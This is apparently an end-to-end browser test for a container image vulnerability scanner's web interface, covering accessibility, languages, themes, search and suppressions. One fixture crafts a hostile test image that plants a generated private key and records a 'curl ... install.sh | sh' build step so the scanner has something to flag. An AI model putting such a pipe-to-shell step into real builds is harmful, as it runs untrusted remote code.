package io.mdis.standalone.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.mdis.fixtures.Commands;
import io.mdis.fixtures.CraftedImage;
import io.mdis.fixtures.RealRegistry;
import io.mdis.fixtures.Skopeo;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPairGenerator;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The pages in a real browser, over real scans: in both languages, dark and light, on a desk and on
 * a phone. Pictures of all are kept in {@code target/screenshots} to be looked at.
 */
class UiE2E {
  private static final String HAS_CHART = "document.querySelector('figure.chart') != null";
  private static final Path PICTURES = Path.of("target", "screenshots");

  @TempDir static Path work;
  private static RealRegistry registry;
  private static RunningServer server;
  private static Chromium chromium;
  private static String axe;
  private static String old;
  private static String fresh;
  private static Map<String, String> pages;

  /** How somebody looks at the pages. */
  private record Look(String name, String language, int width, int height, boolean dark) {
    boolean phone() {
      return width < 600;
    }
  }

  @BeforeAll
  static void scan() throws Exception {
    Chromium.assumeAvailable();
    RealRegistry.assumeAvailable();
    Commands.assumeAvailable("skopeo");
    assumeTrue(
        Files.isDirectory(Launcher.DATA.resolve("images")),
        "left out: no images and advisories at " + Launcher.DATA);
    try (InputStream in = UiE2E.class.getResourceAsStream("/axe.min.js")) {
      axe = new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
    Path database = Advisories.build(work, Launcher.DATA.resolve("advisories"));
    registry = RealRegistry.start();
    String host = registry.host();
    Skopeo.push(unpacked("alpine-310"), host + "/library/alpine:3.10");
    Skopeo.push(unpacked("alpine-311"), host + "/library/alpine:3.11");
    Skopeo.push(OlderPackages.read("alpine-310-old").image(work), host + "/team/billing:2.3");
    byte[] key = HostileImages.alpineFiles().file("srv/app/deploy.pem", privateKey()).bytes();
    CraftedImage.of(CraftedImage.Layer.plain(key))
        .madeBy("/bin/sh -c curl -s https://example.com/install.sh | sh")
        .push(registry, "team/shop", "1.0");
    List<String> options =
        List.of(
            "--data",
            work.resolve("data").toString(),
            "--db",
            database.toString(),
            "--registry",
            registry.uri().toString());
    server = RunningServer.start(work, 0, null, options, Map.of("MDIS_REPORT_COUNT_EVERY", "1S"));
    for (String name :
        List.of(
            "library/alpine:3.10",
            "library/alpine:3.11",
            "team/billing:2.3",
            "team/shop:1.0",
            "team/missing:1")) {
      server.send("POST", "/images", "{\"reference\":\"" + host + "/" + name + "\"}");
    }
    server.await("/images", UiE2E::scanned);
    for (JsonNode image : server.get("/images").path("images")) {
      if (image.path("repository").asText().equals("team/billing")) {
        old = image.path("digest").asText();
      } else {
        fresh = image.path("digest").asText();
      }
    }
    chromium = Chromium.start(work);
    pages = new LinkedHashMap<>();
    pages.put("overview", "/ui");
    pages.put("images", "/ui/images");
    pages.put("image", "/ui/images/" + old);
    pages.put("search", "/ui/findings");
    pages.put("finding", "/ui/vulnerabilities/CVE-2019-1563");
    pages.put("compare", "/ui/compare?from=" + fresh + "&to=" + old);
    pages.put("alerts", "/ui/alerts?state=all");
    pages.put("whitelist", "/ui/suppressions");
    pages.put("policy", "/ui/policy?image=" + old);
    pages.put("trust", "/ui/trust");
    pages.put("queue", "/ui/queue");
    pages.put("rejections", "/ui/rejections");
    pages.put("notifications", "/ui/notifications");
    pages.put("settings", "/ui/settings");
    pages.put("problem", "/ui/images/nonsense");
  }

  @AfterAll
  static void stop() throws IOException {
    if (chromium != null) {
      chromium.close();
    }
    if (server != null) {
      server.close();
    }
    if (registry != null) {
      registry.close();
    }
  }

  @Test
  void everyPageIsFitForEverybody() throws IOException {
    List<String> wrong = new ArrayList<>();
    for (Look look :
        List.of(
            new Look("desk-light", "en", 1360, 900, false),
            new Look("desk-dark", "zh-CN", 1360, 900, true),
            new Look("phone-light", "zh-CN", 390, 844, false),
            new Look("phone-dark", "en", 390, 844, true))) {
      try (BrowserPage page = chromium.page()) {
        show(page, look);
        for (Map.Entry<String, String> each : pages.entrySet()) {
          page.open(server.base() + each.getValue());
          String where = each.getKey() + ", " + look.name() + ": ";
          page.picture(PICTURES.resolve(look.name()).resolve(each.getKey() + ".png"));
          // A phone zooms out until all fits, so its own width is no measure.
          if (page.evaluate("document.documentElement.scrollWidth").asInt() > look.width()) {
            wrong.add(where + "wider than the screen");
          }
          page.complaints().stream()
              .filter(complaint -> !complaint.contains("status of 400")) // The problem's own.
              .forEach(complaint -> wrong.add(where + complaint));
          violations(page).forEach(violation -> wrong.add(where + violation));
          assertThat(page.evaluate("document.documentElement.lang").asText())
              .isEqualTo(look.language().substring(0, 2));
        }
      }
    }
    assertThat(wrong).isEmpty();
  }

  @Test
  void axeSeesWhatIsWrong() throws IOException {
    try (BrowserPage page = open("/ui")) {
      page.evaluate("document.querySelector('main h1').outerHTML = '<img src=/mdis-icon.svg>'; 0");
      assertThat(violations(page)).anyMatch(violation -> violation.startsWith("image-alt"));
    }
  }

  @Test
  void theOverviewTellsWhatNeedsAction() throws IOException {
    try (BrowserPage page = open("/ui")) {
      // The days are counted in the background; until then there is nothing to draw.
      for (int i = 0; i < 60 && !page.evaluate(HAS_CHART).asBoolean(); i++) {
        LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1));
        page.open(server.base() + "/ui");
      }
      until(page, "document.querySelectorAll('figure.chart.drawn').length == 1");
      assertThat(text(page, "main")).contains("team/shop:1.0", "mdis-resolver", "Images watched");
    }
  }

  @Test
  void theListNarrowsWhileOneTypes() throws IOException {
    try (BrowserPage page = open("/ui/images")) {
      assertThat(text(page, "#results")).contains("library/alpine", "team/billing");
      page.evaluate(
          "const field = document.querySelector('main input[name=text]'); field.value = 'billing';"
              + " field.dispatchEvent(new Event('input', {bubbles: true})); 0");
      until(page, "!document.querySelector('#results').innerText.includes('library/alpine')");
      assertThat(text(page, "#results")).contains("team/billing");
      assertThat(page.evaluate("location.search").asText()).contains("text=billing");
      assertThat(page.complaints()).isEmpty();
    }
  }

  @Test
  void anImageTellsWhatToFixFirstAndWhoElseHasIt() throws IOException {
    try (BrowserPage page = open("/ui/images/" + old)) {
      assertThat(text(page, ".fixes")).contains("Upgrade openssl 1.1.1b-r1 to 1.1.1");
      page.leave(
          "[...document.querySelectorAll('a')].find(a => a.innerText == 'CVE-2019-1563').click()");
      assertThat(text(page, "main")).contains("team/billing", "libcrypto1.1");
    }
  }

  @Test
  void theFieldInTheHeadFindsFlawsAndImages() throws IOException {
    try (BrowserPage page = open("/ui")) {
      search(page, "cve-2019-1563");
      assertThat(text(page, "h1")).isEqualToIgnoringCase("cve-2019-1563");
      search(page, "team/shop");
      assertThat(text(page, "#results")).contains("team/shop").doesNotContain("billing");
    }
  }

  @Test
  void languageAndThemeAreKept() throws IOException {
    try (BrowserPage page = open("/ui/images")) {
      page.leave("document.querySelector('button[name=language]').click()");
      assertThat(text(page, "h1")).isEqualTo("镜像");
      page.leave("document.querySelector('button[name=theme]').click()");
      page.open(server.base() + "/ui/alerts");
      assertThat(text(page, "h1")).isEqualTo("告警");
      assertThat(page.evaluate("document.documentElement.dataset.theme").asText())
          .isEqualTo("dark");
      page.leave("document.querySelector('button[name=language]').click()");
      page.leave("document.querySelector('button[name=theme]').click()");
      page.leave("document.querySelector('button[name=theme]').click()");
      assertThat(text(page, "h1")).isEqualTo("Alerts");
    }
  }

  @Test
  void theKeyboardGoesPastTheSections() throws IOException {
    try (BrowserPage page = open("/ui/images")) {
      page.press("Tab", 9);
      assertThat(page.evaluate("document.activeElement.className").asText()).isEqualTo("skip");
      assertThat(page.evaluate("getComputedStyle(document.activeElement).clipPath").asText())
          .isEqualTo("none");
    }
  }

  @Test
  void anEntryIsMadeAndRemoved() throws IOException {
    try (BrowserPage page = open("/ui/suppressions?about=CVE-2019-1547")) {
      page.leave(
          "const form = document.querySelector('#new').closest('section').querySelector('form');"
              + " form.elements.reason.value = 'no TLS <b>here</b>'; form.requestSubmit(); 0");
      assertThat(text(page, "main")).contains("CVE-2019-1547", "no TLS <b>here</b>");
      page.leave("document.querySelector('form[action$=removal]').requestSubmit(); 0");
      assertThat(text(page, "main")).doesNotContain("CVE-2019-1547");
    }
  }

  @Test
  void aDeadLetterIsSentAgainOnce() throws IOException {
    try (BrowserPage page = open("/ui/queue")) {
      page.leave("document.querySelector('button[name=letter]').click()");
      assertThat(text(page, "main")).contains("Sent to its group again.", "replayed by admin");
    }
  }

  private static void show(BrowserPage page, Look look) throws IOException {
    page.forget();
    page.headers(
        Map.of("Authorization", "Bearer " + server.token(), "Accept-Language", look.language()));
    page.screen(look.width(), look.height(), look.phone());
    page.dark(look.dark());
  }

  private static BrowserPage open(String path) throws IOException {
    BrowserPage page = chromium.page();
    show(page, new Look("desk", "en", 1360, 900, false));
    page.open(server.base() + path);
    return page;
  }

  private static void search(BrowserPage page, String words) throws IOException {
    page.leave(
        "document.querySelector('input[name=q]').value = '"
            + words
            + "'; document.querySelector('form.search').requestSubmit(); 0");
  }

  private static String text(BrowserPage page, String selector) throws IOException {
    return page.evaluate("document.querySelector('" + selector + "').innerText").asText();
  }

  private static void until(BrowserPage page, String condition) throws IOException {
    for (int i = 0; i < 100 && !page.evaluate(condition).asBoolean(); i++) {
      LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(100));
    }
    assertThat(page.evaluate(condition).asBoolean()).as(condition).isTrue();
  }

  /** Rules of axe-core that the page breaks, with the first place of each. */
  private static List<String> violations(BrowserPage page) throws IOException {
    page.evaluate(axe + ";0");
    List<String> violations = new ArrayList<>();
    page.evaluate(
            "axe.run(document, {resultTypes: ['violations']}).then(found => found.violations.map("
                + "one => one.id + ' (' + one.impact + '): ' + one.nodes[0].html))")
        .forEach(violation -> violations.add(violation.asText()));
    return violations;
  }

  private static boolean scanned(JsonNode list) {
    JsonNode images = list.path("images");
    for (JsonNode image : images) {
      for (JsonNode dimension : image.path("dimensions")) {
        if (dimension.path("status").asText().equals("PENDING")) {
          return false;
        }
      }
    }
    return images.size() == 4;
  }

  private static Path unpacked(String name) throws IOException {
    Path target = work.resolve(name + ".tar");
    try (InputStream in =
        new GZIPInputStream(
            Files.newInputStream(Launcher.DATA.resolve("images/" + name + ".tar.gz")))) {
      Files.copy(in, target);
    }
    return target;
  }

  private static String privateKey() throws Exception {
    byte[] der = KeyPairGenerator.getInstance("EC").generateKeyPair().getPrivate().getEncoded();
    return "-----BEGIN PRIVATE KEY-----\n"
        + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
        + "\n-----END PRIVATE KEY-----\n";
  }
}
